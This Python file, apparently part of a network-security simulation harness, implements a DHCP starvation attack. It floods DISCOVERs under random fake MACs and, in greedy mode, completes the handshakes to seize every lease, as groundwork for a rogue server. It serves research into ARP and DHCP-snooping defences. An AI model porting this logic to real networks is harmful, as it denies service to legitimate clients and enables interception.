"""DHCP starvation (yersinia-style pool exhaustion).

Supporting attack: a stream of DISCOVERs with random client MACs forces
the server to offer (and, in the greedy variant, lease) every address in
its pool, denying service to legitimate clients — and setting the stage
for a rogue DHCP server.  Relevant to the ARP analysis because Dynamic
ARP Inspection trusts DHCP-snooped bindings, so the harness must show
what happens to that trust under DHCP abuse.
"""

from __future__ import annotations

from typing import Dict

from repro.errors import AttackError, CodecError
from repro.net.addresses import BROADCAST_IP, BROADCAST_MAC, MacAddress, ZERO_IP
from repro.packets.dhcp import (
    DHCP_CLIENT_PORT,
    DHCP_SERVER_PORT,
    DhcpMessage,
    DhcpMessageType,
)
from repro.packets.ethernet import EtherType, EthernetFrame
from repro.packets.ipv4 import IpProto, Ipv4Packet
from repro.packets.udp import UdpDatagram
from repro.attacks.base import Attack
from repro.stack.host import Host

__all__ = ["DhcpStarvation"]


class DhcpStarvation(Attack):
    """Flood DISCOVERs (and optionally complete leases) under fake MACs.

    ``greedy=True`` also answers OFFERs with REQUESTs so the server
    commits real leases (full starvation); ``greedy=False`` only burns
    the offer-hold window, the lazier variant.
    """

    kind = "dhcp-starvation"

    def __init__(
        self,
        attacker: Host,
        rate_per_second: float = 50.0,
        greedy: bool = True,
    ) -> None:
        super().__init__(attacker)
        if rate_per_second <= 0:
            raise AttackError("rate must be positive")
        self.rate = rate_per_second
        self.greedy = greedy
        self._rng = attacker.sim.rng_stream(f"starve/{attacker.name}")
        self._cancel = None
        self._untap = None
        self._fake_xids: Dict[int, MacAddress] = {}
        self.leases_captured = 0

    def _start(self) -> None:
        if self.greedy:
            self._untap = self.attacker.frame_taps.add(self._on_sniffed_frame)
        self._emit_discover()
        self._cancel = self.attacker.sim.call_every(
            1.0 / self.rate, self._emit_discover, name=self.kind
        )

    def _stop(self) -> None:
        if self._cancel is not None:
            self._cancel()
            self._cancel = None
        if self._untap is not None:
            self._untap()
            self._untap = None

    # ------------------------------------------------------------------
    def _emit_discover(self) -> None:
        fake_mac = MacAddress.random(self._rng)
        xid = self._rng.getrandbits(32)
        self._fake_xids[xid] = fake_mac
        message = DhcpMessage.discover(chaddr=fake_mac, xid=xid)
        self._send(message, src_mac=fake_mac)

    def _on_sniffed_frame(self, frame: EthernetFrame, raw: bytes) -> None:
        """Complete the DORA for our fake clients (greedy mode)."""
        if not self.active or frame.ethertype != EtherType.IPV4:
            return
        try:
            packet = Ipv4Packet.decode(frame.payload)
            if packet.proto != IpProto.UDP:
                return
            datagram = UdpDatagram.decode(packet.payload)
            if datagram.dst_port != DHCP_CLIENT_PORT:
                return
            message = DhcpMessage.decode(datagram.payload)
        except CodecError:
            return
        fake_mac = self._fake_xids.get(message.xid)
        if fake_mac is None or message.chaddr != fake_mac:
            return
        if message.message_type == DhcpMessageType.OFFER and message.server_id:
            request = DhcpMessage.request(
                chaddr=fake_mac,
                xid=message.xid,
                requested=message.yiaddr,
                server_id=message.server_id,
            )
            self._send(request, src_mac=fake_mac)
        elif message.message_type == DhcpMessageType.ACK:
            self.leases_captured += 1
            del self._fake_xids[message.xid]

    def _send(self, message: DhcpMessage, src_mac: MacAddress) -> None:
        datagram = UdpDatagram(
            src_port=DHCP_CLIENT_PORT,
            dst_port=DHCP_SERVER_PORT,
            payload=message.encode(),
        )
        packet = Ipv4Packet(
            src=ZERO_IP, dst=BROADCAST_IP, proto=IpProto.UDP,
            payload=datagram.encode(),
        )
        frame = EthernetFrame(
            dst=BROADCAST_MAC,
            src=src_mac,
            ethertype=EtherType.IPV4,
            payload=packet.encode(),
        )
        self.frames_sent += 1
        self.attacker.transmit_frame(frame, origin=f"attack:{self.kind}")
